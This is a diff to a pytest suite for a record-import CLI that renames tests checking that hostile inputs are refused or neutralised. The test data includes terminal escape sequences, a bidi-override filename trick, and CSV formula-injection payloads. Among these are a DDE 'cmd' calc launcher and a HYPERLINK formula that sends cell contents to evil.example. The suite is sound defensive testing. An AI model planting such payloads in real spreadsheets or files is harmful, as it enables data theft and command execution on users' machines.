@@ -104,7 +104,7 @@ F1_RECORDS = {
 
 @pytest.mark.parametrize("kind", ["csv", "db", "json"])
 @pytest.mark.parametrize("case", list(F1_RECORDS))
-def test_f1_an_import_that_the_store_could_not_read_back_is_refused(
+def test_an_import_that_the_store_could_not_read_back_is_refused(
     tmp_path: Path, case: str, kind: str
 ) -> None:
     bad, field, reason = F1_RECORDS[case]
@@ -123,7 +123,9 @@ def test_f1_an_import_that_the_store_could_not_read_back_is_refused(
     assert_still_writable(store)
 
 
-def test_f1_the_review_round_trip_through_a_json_store_into_a_csv_store(tmp_path: Path) -> None:
+def test_a_round_trip_through_a_json_store_into_a_csv_store_refuses_what_it_cannot_read_back(
+    tmp_path: Path,
+) -> None:
     # README: list --json | import - --store other.csv. A JSON store kept every F1 record
     # without complaint, so the round trip could also write an unreadable CSV store.
     other = tmp_path / "other.json"
@@ -138,7 +140,7 @@ def test_f1_the_review_round_trip_through_a_json_store_into_a_csv_store(tmp_path
     assert_still_writable(target)
 
 
-def test_f1_a_duplicate_id_within_one_import_is_refused_with_its_position(tmp_path: Path) -> None:
+def test_a_duplicate_id_within_one_import_is_refused_with_its_position(tmp_path: Path) -> None:
     store = copy_store(tmp_path)
     source = tmp_path / "twice.json"
     source.write_text(json.dumps([record(), record(title="Other title")]))
@@ -148,7 +150,7 @@ def test_f1_a_duplicate_id_within_one_import_is_refused_with_its_position(tmp_pa
     assert store.read_bytes() == BUNDLED_STORE.read_bytes()
 
 
-def test_f15_a_differing_record_with_a_known_id_is_not_dropped_silently(tmp_path: Path) -> None:
+def test_a_differing_record_with_a_known_id_is_not_dropped_silently(tmp_path: Path) -> None:
     # The review: counted as "1 already there", its new title and dates dropped without a
     # word. Import now reconciles: the record updates the activity, and says so.
     store = copy_store(tmp_path)
@@ -177,7 +179,7 @@ HOSTILE = {
 
 @pytest.mark.parametrize("option", ["--title", "--modality", "--location", "--dates"])
 @pytest.mark.parametrize("name", list(HOSTILE))
-def test_f8_add_refuses_hidden_characters_in_every_field(
+def test_add_refuses_hidden_characters_in_every_field(
     tmp_path: Path, option: str, name: str
 ) -> None:
     store = copy_store(tmp_path)
@@ -192,7 +194,7 @@ def test_f8_add_refuses_hidden_characters_in_every_field(
     assert store.read_bytes() == BUNDLED_STORE.read_bytes()
 
 
-def test_f8_edit_refuses_an_escape_in_the_modality(tmp_path: Path) -> None:
+def test_edit_refuses_an_escape_in_the_modality(tmp_path: Path) -> None:
     store = copy_store(tmp_path)
     result = cli("edit", "xa9w", "--modality", HOSTILE["ESC"], store=store)
     assert result.exit_code == 2
@@ -201,7 +203,7 @@ def test_f8_edit_refuses_an_escape_in_the_modality(tmp_path: Path) -> None:
 
 
 @pytest.mark.parametrize("column", ["modality", "city", "location", "title", "projects"])
-def test_f8_a_csv_import_refuses_hidden_characters(tmp_path: Path, column: str) -> None:
+def test_a_csv_import_refuses_hidden_characters(tmp_path: Path, column: str) -> None:
     rows = list(csv.reader(io.StringIO(BUNDLED_STORE.read_text(encoding="utf-8"))))
     header = rows[0]
     lyon = dict(zip(header, rows[30], strict=True))
@@ -225,7 +227,7 @@ def test_f8_a_csv_import_refuses_hidden_characters(tmp_path: Path, column: str) 
         {"text": "Ly\x07on, France", "city": "Lyon", "countries": [{"code": "FR"}]},
     ],
 )
-def test_f8_a_json_import_refuses_hidden_characters_in_the_place(
+def test_a_json_import_refuses_hidden_characters_in_the_place(
     tmp_path: Path, place: dict[str, Any]
 ) -> None:
     store = copy_store(tmp_path)
@@ -234,7 +236,7 @@ def test_f8_a_json_import_refuses_hidden_characters_in_the_place(
     assert store.read_bytes() == BUNDLED_STORE.read_bytes()
 
 
-def test_f8_a_country_name_is_the_code_s_not_the_record_s(tmp_path: Path) -> None:
+def test_a_country_name_is_the_code_s_not_the_record_s(tmp_path: Path) -> None:
     # The review saw an ESC in a country's name imported as it was; the name comes from the
     # ISO code, so the record's own name never reaches the store.
     store = copy_store(tmp_path)
@@ -244,7 +246,7 @@ def test_f8_a_country_name_is_the_code_s_not_the_record_s(tmp_path: Path) -> Non
     assert added["place"]["countries"] == [{"code": "FR", "name": "France"}]
 
 
-def test_f8_a_newsletter_line_with_an_escape_is_refused(tmp_path: Path) -> None:
+def test_a_newsletter_line_with_an_escape_is_refused(tmp_path: Path) -> None:
     source = tmp_path / "n.txt"
     source.write_text("OCTOBER 2019\nGLACY+\tBad \x1b]0;x\x07 title, Lyon, France, 1-2 October\n")
     result = cli("import", str(source), store=tmp_path / "s.csv")
@@ -253,7 +255,8 @@ def test_f8_a_newsletter_line_with_an_escape_is_refused(tmp_path: Path) -> None:
     assert "Value error" not in result.stderr  # D47: pydantic's words
 
 
-def test_f8_a_hand_edited_escape_is_refused_and_never_printed_raw(tmp_path: Path) -> None:
+@pytest.mark.slow
+def test_a_hand_edited_escape_is_refused_and_never_printed_raw(tmp_path: Path) -> None:
     # Someone typed an escape sequence into the store in an editor: the row is left out with a
     # warning, and no output, messages included, carries the raw escape to the terminal.
     store = copy_store(tmp_path)
@@ -279,7 +282,7 @@ def test_f8_a_hand_edited_escape_is_refused_and_never_printed_raw(tmp_path: Path
     assert b":31: error: location: contains an escape character (ESC)" in result.stdout
 
 
-def test_d50_a_title_with_a_bidi_override_or_zero_width_space_is_refused(tmp_path: Path) -> None:
+def test_a_title_with_a_bidi_override_or_zero_width_space_is_refused(tmp_path: Path) -> None:
     store = copy_store(tmp_path)
     for title in ("Report\u202ecod.exe", "Zero\u200bwidth"):
         result = cli("add", "-p", "GLACY+", "-t", title, "--dates", "2 May 2020", store=store)
@@ -292,7 +295,7 @@ def test_d50_a_title_with_a_bidi_override_or_zero_width_space_is_refused(tmp_pat
 HYPERLINK_COLUMN = '=HYPERLINK("http://evil.example/?x="&A1;"click")'
 
 
-def test_f7_a_column_named_like_a_formula_is_neutralised_in_exports_and_in_the_store(
+def test_a_column_named_like_a_formula_is_neutralised_in_exports_and_in_the_store(
     tmp_path: Path,
 ) -> None:
     source = tmp_path / "hostile.csv"
@@ -318,7 +321,7 @@ def test_f7_a_column_named_like_a_formula_is_neutralised_in_exports_and_in_the_s
     assert listed(again)[0]["extra"] == {HYPERLINK_COLUMN: "+7", "notes": "x"}
 
 
-def test_f7_projects_as_csv_are_neutralised(tmp_path: Path) -> None:
+def test_projects_as_csv_are_neutralised(tmp_path: Path) -> None:
     store = copy_store(tmp_path)
     projects = (Path(__file__).parent.parent / "data" / "projects.csv").read_text()
     (tmp_path / "projects.csv").write_text(
@@ -335,7 +338,7 @@ def test_f7_projects_as_csv_are_neutralised(tmp_path: Path) -> None:
 @pytest.mark.parametrize(
     "title", ["=2+2", "+1+1 workshop", "-5 priorities", "@SUM(A1)", "=cmd|' /C calc'!A0"]
 )
-def test_d50_formula_titles_are_stored_neutralised_and_round_trip_without_the_mark(
+def test_formula_titles_are_stored_neutralised_and_round_trip_without_the_mark(
     tmp_path: Path, title: str
 ) -> None:
     store = copy_store(tmp_path)
@@ -353,7 +356,7 @@ def test_d50_formula_titles_are_stored_neutralised_and_round_trip_without_the_ma
     assert [a["title"] for a in listed(other)] == [title]
 
 
-def test_f7_a_newsletter_formula_is_neutralised_in_the_store(tmp_path: Path) -> None:
+def test_a_newsletter_formula_is_neutralised_in_the_store(tmp_path: Path) -> None:
     source = tmp_path / "n.txt"
     source.write_text(
         'OCTOBER 2019\nGLACY+\t=HYPERLINK("http://evil.example","click"), Lyon, France, '
@@ -368,7 +371,7 @@ def test_f7_a_newsletter_formula_is_neutralised_in_the_store(tmp_path: Path) -> 
 # --- F15: a CSV import with a column named twice -------------------------------------------
 
 
-def test_f15_a_column_named_twice_is_refused_not_the_last_one_kept(tmp_path: Path) -> None:
+def test_a_column_named_twice_is_refused_not_the_last_one_kept(tmp_path: Path) -> None:
     source = tmp_path / "twice.csv"
     source.write_text(
         "id,projects,title,dates,month,title\n"
@@ -425,7 +428,7 @@ BIG = "A" * 120_000
         ("--project", "at most 200"),
     ],
 )
-def test_d46_every_typed_field_has_a_cap_and_the_error_is_short(
+def test_every_typed_field_has_a_cap_and_the_error_is_short(
     tmp_path: Path, option: str, cap: str
 ) -> None:
     store = copy_store(tmp_path)
@@ -437,7 +440,7 @@ def test_d46_every_typed_field_has_a_cap_and_the_error_is_short(
     assert store.read_bytes() == BUNDLED_STORE.read_bytes()
 
 
-def test_d47_an_empty_id_cell_in_the_store_is_said_in_plain_words(tmp_path: Path) -> None:
+def test_an_empty_id_cell_in_the_store_is_said_in_plain_words(tmp_path: Path) -> None:
     store = copy_store(tmp_path)
     lines = store.read_text(encoding="utf-8").splitlines()
     lines[1] = "," + lines[1].split(",", 1)[1]
@@ -448,7 +451,7 @@ def test_d47_an_empty_id_cell_in_the_store_is_said_in_plain_words(tmp_path: Path
     assert "pattern" not in result.stdout + result.stderr
 
 
-def test_d47_a_cell_over_the_csv_limit_in_an_import(tmp_path: Path) -> None:
+def test_a_cell_over_the_csv_limit_in_an_import_is_one_line(tmp_path: Path) -> None:
     source = tmp_path / "big.csv"
     source.write_text(
         "id,projects,title,dates,month\nabcd1234,GLACY+," + "T" * 200_000 + ",1-2 October,2019-10\n"
@@ -459,7 +462,7 @@ def test_d47_a_cell_over_the_csv_limit_in_an_import(tmp_path: Path) -> None:
     assert "field limit" not in result.stderr
 
 
-def test_d47_a_month_of_the_wrong_form_in_a_json_record(tmp_path: Path) -> None:
+def test_a_month_of_the_wrong_form_in_a_json_record_is_one_line(tmp_path: Path) -> None:
     bad = record(schedule={**DECEMBER, "month": "2019-13"})
     result = cli("import", "-", store=tmp_path / "s.csv", input=json.dumps([bad]))
     assert result.exit_code == 1
@@ -467,7 +470,7 @@ def test_d47_a_month_of_the_wrong_form_in_a_json_record(tmp_path: Path) -> None:
     assert "pattern" not in result.stderr
 
 
-def test_d47_a_one_megabyte_title_in_an_import(tmp_path: Path) -> None:
+def test_a_one_megabyte_title_in_an_import_is_one_line_with_the_cap(tmp_path: Path) -> None:
     result = cli("import", "-", store=tmp_path / "s.csv", input=json.dumps([record(title=BIG * 9)]))
     assert result.exit_code == 1
     assert "(record 1): error: title: is 1,080,000 characters long; at most 1,000" in result.stderr
@@ -484,7 +487,7 @@ def test_d47_a_one_megabyte_title_in_an_import(tmp_path: Path) -> None:
         (["import", b"caf\xe9.csv"], "FILE"),
     ],
 )
-def test_d47_an_argument_that_is_not_utf8_is_one_line_naming_it(
+def test_an_argument_that_is_not_utf8_is_one_line_naming_it(
     tmp_path: Path, args: list[str | bytes], option: str
 ) -> None:
     # A Latin-1 terminal: the bytes reach Python as lone surrogates, which crashed SQLite
@@ -500,7 +503,7 @@ def test_d47_an_argument_that_is_not_utf8_is_one_line_naming_it(
     assert store.read_bytes() == BUNDLED_STORE.read_bytes()
 
 
-def test_d47_export_to_an_empty_name(tmp_path: Path) -> None:
+def test_export_to_an_empty_name_is_a_usage_error(tmp_path: Path) -> None:
     result = cli("export", "-o", "", store=copy_store(tmp_path))
     assert result.exit_code == 2
     assert "--output: is empty; expected a file name" in result.stderr
